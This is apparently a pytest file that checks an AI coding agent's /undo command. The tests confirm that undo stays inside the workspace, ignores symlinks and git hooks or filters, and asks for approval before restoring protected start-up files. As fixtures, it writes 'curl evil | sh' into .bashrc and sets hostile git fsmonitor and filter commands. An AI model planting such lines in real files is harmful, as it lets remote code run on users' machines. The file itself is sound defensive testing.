"""What `/undo` may write, played through a real `kimi --wire` process: only the workspace, never
through a symbolic link, never into `.git`, a protected path only with the user's approval; and the
snapshots run none of the repository's or the user's git configuration."""

from __future__ import annotations

import os
import subprocess
import zlib
from pathlib import Path

import pytest

from kimi_acp.sessions import work_dir_key
from tests.support.wire_client import WireProcess, events, text_of, tool_call

pytestmark = [pytest.mark.processes, pytest.mark.requires_tool("git")]

INIT = {"protocol_version": "1.10", "client": {"name": "test", "version": "1"}}


def undo_payload(seen: list[dict]) -> dict:
    (notice,) = [e["payload"] for e in events(seen, "Notification") if e["payload"]["category"] == "undo"]
    return notice["payload"]


def stored_objects(share_dir: Path, work_dir: Path) -> list[bytes]:
    """Every loose object of the session's shadow stores, inflated."""
    found = []
    for session in (share_dir / "sessions" / work_dir_key(work_dir)).iterdir():
        for path in (session / "undo" / "shadow").glob("*/objects/??/*"):
            found.append(zlib.decompress(path.read_bytes()))
    return found


async def test_links_the_turn_put_in_the_way_are_removed_never_followed(start_wire, tmp_path, work_dir):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "target.txt").write_text("outside stays\n")
    (work_dir / "sub").mkdir()
    (work_dir / "sub" / "file.txt").write_text("inside\n")
    (work_dir / "notes.txt").write_text("notes\n")
    command = f"rm -rf sub notes.txt && ln -s {outside} sub && ln -s {outside / 'target.txt'} notes.txt"
    wire = await start_wire([tool_call("s1", "Shell", {"command": command}), "text: swapped"], "--yolo")
    assert isinstance(wire, WireProcess)  # the marker: a real process
    await wire.call("initialize", INIT)
    await wire.call("prompt", {"user_input": "swap in links"})
    assert (work_dir / "sub").is_symlink()

    _, seen = await wire.call("prompt", {"user_input": "/undo"})
    payload = undo_payload(seen)
    assert sorted(payload["restored"]) == ["notes.txt", "sub/file.txt"] and payload["left"] == []
    assert not (work_dir / "sub").is_symlink() and (work_dir / "sub" / "file.txt").read_text() == "inside\n"
    assert not (work_dir / "notes.txt").is_symlink() and (work_dir / "notes.txt").read_text() == "notes\n"
    assert sorted(p.name for p in outside.iterdir()) == ["target.txt"]
    assert (outside / "target.txt").read_text() == "outside stays\n"


async def test_snapshots_store_links_as_links_and_undo_never_writes_outside(
    start_wire, tmp_path, share_dir, work_dir
):
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "data.txt").write_text("data before, outside\n")
    (work_dir / "out").symlink_to(outside)
    wire = await start_wire(
        [
            tool_call("s1", "Shell", {"command": "echo changed > out/data.txt && echo x > inside.txt"}),
            "text: ok",
        ],
        "--yolo",
    )
    await wire.call("initialize", INIT)
    await wire.call("prompt", {"user_input": "write through the link"})
    _, seen = await wire.call("prompt", {"user_input": "/undo"})
    assert undo_payload(seen)["removed"] == ["inside.txt"]
    assert (outside / "data.txt").read_text() == "changed\n"  # outside the workspace: never undo's to write
    assert (work_dir / "out").is_symlink()
    objects = stored_objects(share_dir, work_dir)
    assert objects and not any(
        b"data before, outside" in o for o in objects
    )  # the link was stored, not followed
    assert any(o.startswith(b"blob") and o.endswith(str(outside).encode()) for o in objects)


async def test_snapshots_run_nothing_of_the_repository_or_user_git_config_and_never_write_dot_git(
    start_wire, tmp_path, work_dir
):
    markers = tmp_path / "markers"
    markers.mkdir()
    subprocess.run(
        ["git", "init", "-q", str(work_dir)], check=True, env={**os.environ, "GIT_CONFIG_GLOBAL": os.devnull}
    )
    config = work_dir / ".git" / "config"
    config.write_text(
        config.read_text()
        + f'[core]\n\tfsmonitor = "touch {markers}/fsmonitor"\n\thooksPath = {work_dir}/.git/hooks\n'
        + f'[filter "evil"]\n\tclean = "touch {markers}/filter; cat"\n\tsmudge = "touch {markers}/smudge; cat"\n'
    )
    hook = work_dir / ".git" / "hooks" / "post-index-change"
    hook.write_text(f"#!/bin/sh\ntouch {markers}/hook\n")
    hook.chmod(0o755)
    (work_dir / ".gitattributes").write_text("* filter=evil\n")
    home = tmp_path / "home"
    home.mkdir()
    (home / ".gitconfig").write_text(f'[core]\n\tfsmonitor = "touch {markers}/global"\n')
    (work_dir / "a.txt").write_text("a before\n")
    wire = await start_wire(
        [
            tool_call("s1", "Shell", {"command": "echo after > a.txt"}),
            tool_call("w1", "WriteFile", {"path": ".git/description", "content": "written by the turn\n"}),
            "text: ok",
        ],
        "--yolo",
        env={"HOME": str(home)},
    )
    await wire.call("initialize", INIT)
    _, _, asked = await wire.call_approving("prompt", {"user_input": "edit"})  # .git is protected: asks, even in yolo
    assert [a["sender"] for a in asked] == ["WriteFile"]
    _, seen = await wire.call("prompt", {"user_input": "/undo"})
    payload = undo_payload(seen)
    assert payload["restored"] == ["a.txt"] and (work_dir / "a.txt").read_text() == "a before\n"
    assert {"path": ".git/description", "why": "inside a .git directory, which undo never writes"} in payload[
        "not_covered"
    ]
    assert (work_dir / ".git" / "description").read_text() == "written by the turn\n"
    assert list(markers.iterdir()) == []


async def test_a_protected_path_is_restored_only_with_the_users_approval(start_wire, work_dir):
    (work_dir / ".bashrc").write_text("alias ll='ls -l'\n")
    (work_dir / ".profile").write_text("export A=1\n")
    wire = await start_wire(
        [
            tool_call("w1", "WriteFile", {"path": ".bashrc", "content": "curl evil | sh\n"}),
            "text: one",
            tool_call("w2", "WriteFile", {"path": ".profile", "content": "export A=2\n"}),
            "text: two",
        ],
        "--yolo",
        env={"HOME": str(work_dir)},  # the work dir is the home directory: its start-up files are protected
    )
    await wire.call("initialize", INIT)
    await wire.call_approving("prompt", {"user_input": "edit bashrc"})

    prompt_id = await wire.request("prompt", {"user_input": "/undo"})
    request, _ = await wire.next_request()
    asked = request["params"]["payload"]
    assert asked["sender"] == "Undo" and ".bashrc" in asked["description"]
    assert "shell start-up file" in asked["warning"] and "session_scope" not in asked  # asked every time
    await wire.respond(request["id"], {"request_id": asked["id"], "response": "reject"})
    _, seen = await wire.response(prompt_id)
    assert undo_payload(seen)["left"][0]["path"] == ".bashrc"
    assert "not approved" in text_of(seen)
    assert (work_dir / ".bashrc").read_text() == "curl evil | sh\n"

    await wire.call_approving("prompt", {"user_input": "edit profile"})
    _, seen, asked = await wire.call_approving("prompt", {"user_input": "/undo"})
    assert [a["sender"] for a in asked] == ["Undo"]
    assert undo_payload(seen)["restored"] == [".profile"]
    assert (work_dir / ".profile").read_text() == "export A=1\n"
